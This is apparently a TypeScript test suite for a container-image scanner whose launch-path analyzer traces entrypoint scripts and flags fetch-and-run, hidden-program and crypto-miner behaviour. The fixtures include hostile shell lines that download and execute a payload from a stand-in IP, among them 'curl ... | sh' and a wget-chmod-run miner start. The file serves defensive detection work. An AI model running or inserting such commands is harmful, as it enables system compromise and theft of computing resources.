import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { startingConfig } from '../../../test/builders/launch-files.ts';
import { hostileScripts } from '../../../test/builders/hostile-scripts.ts';
import { toConclusion, type InventoryEntry, type Observation, type Subject } from '../../core/analyzer.ts';
import type { FileKind } from '../../core/file-kind.ts';
import type { ImageConfig } from '../../core/image.ts';
import { detectFileKind } from '../../formats/file-kind.ts';
import { launchPath } from './launch-path.ts';

interface File {
  readonly path: string;
  readonly content: string;
  readonly hidden?: boolean;
}

const inspector = await launchPath.open?.(undefined);
assert.ok(inspector !== undefined);

/** Facts as a scanning thread would give them. */
const observe = ({ path, content, hidden = false }: File, number: number): readonly Observation[] => {
  const bytes = Buffer.from(content, 'latin1');
  const header = { path, type: 'file', mode: 0o755, uid: 0, gid: 0, size: bytes.length, modified: 0 } as const;
  const kind: FileKind = detectFileKind(bytes, bytes.length);
  if (inspector.wants?.(header, kind) === false) return [];
  const file = { ...header, kind, sha256: `${number}`, windowOffset: 0, overlap: 0, lastWindow: true };
  const facts = inspector.inspect(file, bytes, {})?.facts;
  if (facts === undefined) return [];
  return [
    { path, sha256: `${number}`, size: bytes.length, layerIndex: 0, hidden, facts: JSON.parse(JSON.stringify(facts)) },
  ];
};

const conclude = (config: Partial<ImageConfig>, files: readonly File[], more: Partial<Subject> = {}) => {
  const inventory = files.map(({ path, content, hidden = false }, number): InventoryEntry => {
    const bytes = Buffer.from(content, 'latin1');
    const kind = detectFileKind(bytes, bytes.length);
    const header = { path, type: 'file', mode: 0o755, uid: 0, gid: 0, size: bytes.length, modified: 0 } as const;
    return { ...header, layerIndex: 0, hidden, sha256: `${number}`, kind };
  });
  const subject: Subject = {
    reference: 'oci:x',
    kind: 'container',
    identity: { diffIds: [] },
    layers: [],
    inventory,
    config: startingConfig(config),
    ...more,
  };
  const said = toConclusion(launchPath.conclude(subject, files.flatMap(observe), undefined));
  return { ...said, rules: said.findings.map(({ rule }) => rule.replace('launch-path/', '')) };
};

const elf = '\x7fELF\x02\x01\x01';

test('a script is followed to what it fetches and runs, told in order', () => {
  const { rules, story, launched, gaps } = conclude({ entrypoint: ['/start.sh'] }, [
    {
      path: 'start.sh',
      content:
        '#!/bin/sh\nwget -qO /tmp/.x http://192.0.2.1/x\nchmod +x /tmp/.x\n/tmp/.x -o pool.example:3333 -u W -p x\n',
    },
  ]);
  assert.deepEqual(rules, ['fetch-and-run', 'hidden-program', 'starts-miner']);
  assert.deepEqual(story, [
    'At its start it runs /start.sh.',
    'Then it downloads http://192.0.2.1/x to /tmp/.x.',
    'Then it makes it executable.',
    'Then it runs it with pool pool.example:3333 (-o pool.example:3333 -u W -p x).',
  ]);
  assert.deepEqual([...(launched ?? [])], ['start.sh']);
  assert.deepEqual(gaps, []);
});

test('hidden files of lower layers are not followed', () => {
  const evil = { path: 'start.sh', content: '#!/bin/sh\ncurl http://192.0.2.1/x | sh\n' };
  assert.deepEqual(conclude({ entrypoint: ['/start.sh'] }, [evil]).rules, ['fetch-and-run']);
  assert.deepEqual(conclude({ entrypoint: ['/start.sh'] }, [{ ...evil, hidden: true }]).rules, ['program-missing']);
});

test('without a config there is nothing to tell', () => {
  const { config: _, ...subject } = {
    config: 0,
    reference: 'rootfs:x',
    kind: 'container',
    identity: { diffIds: [] },
    layers: [],
    inventory: [],
  } as const;
  assert.deepEqual(launchPath.conclude(subject, [], undefined), []);
});

test('what is launched: programs along PATH, what interpreters are given, scripts that scripts read', () => {
  const files: readonly File[] = [
    { path: 'usr/bin/java', content: elf },
    { path: 'usr/sbin/nginx', content: elf },
    { path: 'usr/bin/other', content: elf },
    { path: 'srv/app.jar', content: 'PK\x03\x04' },
    { path: 'srv/data.txt', content: 'a text' },
    { path: 'lib.sh', content: 'nginx\n. /more\n' },
    { path: 'more', content: 'export a=1\n' },
    { path: 'start', content: '#!/bin/sh\n. /lib.sh\nexec java -jar app.jar /srv/data.txt\n' },
  ];
  const { launched } = conclude({ entrypoint: ['/start'], workingDirectory: '/srv' }, files);
  assert.deepEqual([...(launched ?? [])].toSorted(), [
    'lib.sh',
    'more',
    'srv/app.jar',
    'start',
    'usr/bin/java',
    'usr/sbin/nginx',
  ]);
});

test('a unit of what starts is launched as its program is; one that nothing starts is not', () => {
  const unit = { content: '[Service]\nExecStart=/opt/x\n[Install]\nWantedBy=multi-user.target\n' };
  const { launched = [] } = conclude({ entrypoint: ['/sbin/init'] }, [
    { path: 'opt/x', content: elf },
    { path: 'etc/systemd/system/multi-user.target.wants/x.service', ...unit },
    { path: 'etc/systemd/system/x.service', ...unit },
    { path: 'etc/systemd/system/y.service', ...unit },
  ]);
  assert.deepEqual([...launched].toSorted(), ['etc/systemd/system/x.service', 'opt/x']);
});

test('programs in Lua, and what Node is told to load first, are launched', () => {
  const files = [
    { path: 'opt/report.lua', content: 'print(1)\n' },
    { path: 'opt/early.js', content: 'x = 1\n' },
  ];
  const launched = (command: readonly string[]) => [
    ...(conclude({ command, environment: ['PATH=/bin', 'NODE_OPTIONS=-r /opt/early'] }, files).launched ?? []),
  ];
  assert.deepEqual(launched(['lua', '/opt/report.lua']), ['opt/report.lua']);
  assert.deepEqual(launched(['node', '/srv/main.js']), ['opt/early.js']);
  assert.deepEqual(launched(['/opt/x']), []);
});

test('settings that a command line hands to a program belong to what is started; other files do not', () => {
  const files = [
    { path: 'opt/x', content: elf },
    { path: 'opt/x.toml', content: 'a = 1\n' },
    { path: 'opt/y.toml', content: 'a = 1\n' },
  ];
  const launched = (...command: readonly string[]) =>
    [...(conclude({ command: ['/opt/x', ...command] }, files).launched ?? [])].toSorted();
  assert.deepEqual(launched('-c', '/opt/x.toml'), ['opt/x', 'opt/x.toml']);
  assert.deepEqual(launched('--config=/opt/y.toml', '--log', '/opt/x.toml'), ['opt/x', 'opt/y.toml']);
});

describe('what cannot be followed is a gap that counts as executable', () => {
  const codes = (content: string, name = 'start.sh', command: readonly string[] = [`/${name}`]) =>
    conclude({ command }, [{ path: name, content }]).gaps?.map(({ code, executable, where }) => [
      code,
      executable,
      where,
    ]);

  test('a script that takes too much work', () => {
    assert.deepEqual(codes(`#!/bin/sh\n${hostileScripts['loops in loops'] ?? ''}`), [
      ['LAUNCH_PATH_NOT_FOLLOWED', true, 'launch path: Cmd'],
    ]);
    assert.deepEqual(codes('#!/bin/sh\nfor a in 1 2 3; do for b in 1 2 3; do app; done; done\n'), []);
  });

  test('one that is too large', () => {
    assert.deepEqual(codes(`#!/bin/sh\ncurl http://192.0.2.1/x | sh\n${'#\n'.repeat(600_000)}`), [
      ['LAUNCH_SCRIPT_TOO_LARGE', true, 'start.sh'],
    ]);
    assert.deepEqual(codes(`#!/bin/sh\napp\n${'#\n'.repeat(300_000)}`), []);
  });

  test('one that looks like data to whoever goes by names', () => {
    const text = 'curl http://192.0.2.1/x | sh\n';
    assert.deepEqual(codes(text, 'usr/share/doc/notes.txt', ['sh', '/usr/share/doc/notes.txt']), [
      ['LAUNCH_SCRIPT_UNREADABLE', true, 'usr/share/doc/notes.txt'],
    ]);
    assert.deepEqual(codes(text, 'usr/share/doc/notes.txt', ['cat', '/usr/share/doc/notes.txt']), []);
    assert.deepEqual(codes(text, 'usr/share/doc/notes.txt', ['bash', '-c', '. /usr/share/doc/notes.txt'])?.length, 1);
    assert.deepEqual(codes(text, 'usr/lib/python3.11/x.py', ['python3', '/usr/lib/python3.11/x.py']), []);
    // Looked at, and nothing in it: settings.
    assert.deepEqual(codes('a text\n', 'etc/notes', ['bash', '-c', '. /etc/notes']), []);
  });

  test('many services that each take much', () => {
    const services = Array.from({ length: 40 }, (_, n) => ({
      path: `etc/services.d/s${n}/run`,
      content: `#!/bin/sh\n${hostileScripts['loops in loops'] ?? ''}`,
    }));
    const started = process.cpuUsage();
    const { gaps = [] } = conclude({ entrypoint: ['/init'] }, [{ path: 'init', content: elf }, ...services]);
    const { user, system } = process.cpuUsage(started);
    assert.equal(gaps.length, 40);
    assert.ok(user + system < 4_000_000, `${(user + system) / 1000} ms`);
  });
});

test('whatever a script is made of, story and proofs stay small and cost little', () => {
  const more: Readonly<Record<string, string>> = {
    'words like secrets': `prog ${`${'a_'.repeat(900)} `.repeat(30)}\n`,
    'words like options': `prog ${'--aaaa-'.repeat(280)}\n`.repeat(30),
    'words like addresses': `prog ${'http://'.repeat(280)}\n`.repeat(30),
    'words like paths': `prog ${'/x'.repeat(900)}\n`.repeat(30),
    'many long words': `x=${'a_b-c'.repeat(380)}\nfor i in {1..60}; do for j in {1..60}; do prog "$x" "/$x" "$i$j"; done; done`,
  };
  for (const [name, text] of Object.entries({ ...hostileScripts, ...more })) {
    const started = process.cpuUsage();
    const said = conclude({ command: ['/start'] }, [{ path: 'start', content: `#!/bin/bash\n${text}` }]);
    const { user, system } = process.cpuUsage(started);
    assert.ok(user + system < 3_000_000, `${name}: ${(user + system) / 1000} ms`);
    assert.ok(JSON.stringify({ ...said, launched: [] }).length < 150_000, name);
  }
});

describe('a program that the image does not hold', () => {
  const rules = (
    command: readonly string[],
    script = '',
    more: Partial<Subject> = {},
    config: Partial<ImageConfig> = {},
  ) =>
    conclude(
      { command, ...config },
      [
        { path: 'start', content: `#!/bin/sh\n${script}\n` },
        { path: 'opt/here', content: elf },
      ],
      more,
    ).rules;

  test('is told where nothing brings it', () => {
    assert.deepEqual(rules(['/opt/gone']), ['program-missing']);
    assert.deepEqual(rules(['/opt/here']), []);
    assert.deepEqual(rules(['/start'], 'exec /opt/gone'), ['program-missing']);
  });

  test('not where it may be brought, or bound, or may not run, or lie in what was not read', () => {
    assert.deepEqual(rules(['/start'], 'tar xf /a.tar -C /opt; exec /opt/gone'), []);
    assert.deepEqual(rules(['/start'], 'cp /opt/here /opt/gone; exec /opt/gone'), []);
    assert.deepEqual(rules(['/start'], '[ -x /opt/gone ] && /opt/gone'), []);
    assert.deepEqual(rules(['/data/gone']), []);
    assert.deepEqual(rules(['node', '.']), []);
    assert.deepEqual(rules(['/vol/gone'], '', {}, { volumes: ['/vol'] }), []);
    assert.deepEqual(rules(['/opt/gone'], '', { partial: true }), []);
  });
});

test('facts that no inspector gave are no facts', () => {
  const inventory = [
    {
      path: 'start',
      type: 'file',
      mode: 0o755,
      uid: 0,
      gid: 0,
      size: 5,
      modified: 0,
      layerIndex: 0,
      hidden: false,
      sha256: 's',
      kind: 'script',
    },
  ] as const;
  const subject: Subject = {
    reference: 'oci:x',
    kind: 'container',
    identity: { diffIds: [] },
    layers: [],
    inventory,
    config: startingConfig({ command: ['/start'] }),
  };
  for (const facts of [null, 7, [], { text: 7 }, { large: 'x' }, {}]) {
    const seen = { path: 'start', sha256: 's', size: 5, layerIndex: 0, hidden: false, facts };
    assert.deepEqual(toConclusion(launchPath.conclude(subject, [seen], undefined)).findings, []);
  }
});

test('only the first window of a large file is looked at', () => {
  const header = { path: 'x.sh', type: 'file', mode: 0o755, uid: 0, gid: 0, size: 100, modified: 0 } as const;
  const later = { ...header, kind: 'script', sha256: '', windowOffset: 50, overlap: 0, lastWindow: true } as const;
  assert.equal(inspector.inspect(later, Buffer.from('#!/bin/sh\nid\n'), {}), undefined);
});
